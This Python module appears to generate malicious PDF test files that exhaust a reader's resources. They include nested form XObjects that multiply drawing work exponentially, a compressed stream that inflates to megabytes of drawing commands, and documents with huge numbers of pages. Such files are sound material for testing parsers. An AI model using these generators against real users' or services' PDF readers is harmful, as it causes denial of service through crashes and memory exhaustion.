"""PDFs that attack their reader, made by hand: small files that unfold into much work or much memory."""

import zlib

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)
    return bytes(out)


def stream(content: bytes, extra: bytes = b"") -> bytes:
    """A stream object, compressed."""
    packed = zlib.compress(content, 9)
    return b"<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (len(packed), extra) + packed + b"\nendstream"


def page(content: bytes, *resources: bytes) -> bytes:
    """A document of one page with this content stream; ``resources`` are further objects, the first has number 6."""
    return pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Resources << /Font << /F1 5 0 R >> /XObject << /X0 6 0 R >> >> >>",
            stream(content),
            _FONT,
            *resources,
        ]
    )


def laughs(depth: int = 12, width: int = 10) -> bytes:
    """Forms that draw forms: ``width`` to the power of ``depth`` texts out of a few kilobytes."""
    forms = []
    for level in range(depth):
        inner = b"/X0 Do " * width if level < depth - 1 else b"BT /F1 9 Tf 10 10 Td (x) Tj ET"
        following = b"/XObject << /X0 %d 0 R >>" % (7 + level)
        head = (
            b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> %s >>" % following
        )
        forms.append(stream(inner, head))
    return page(b"/X0 Do", *forms)


def flood(megabytes: int) -> bytes:
    """A content stream that unpacks to so many megabytes of drawing."""
    piece = b"0 0 m 9 9 l S\n"
    return page(piece * ((megabytes << 20) // len(piece)))


def many_pages(count: int) -> bytes:
    """So many empty pages."""
    kids = b" ".join(b"%d 0 R" % (3 + number) for number in range(count))
    tree = b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count
    leaf = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", tree, *[leaf] * count])
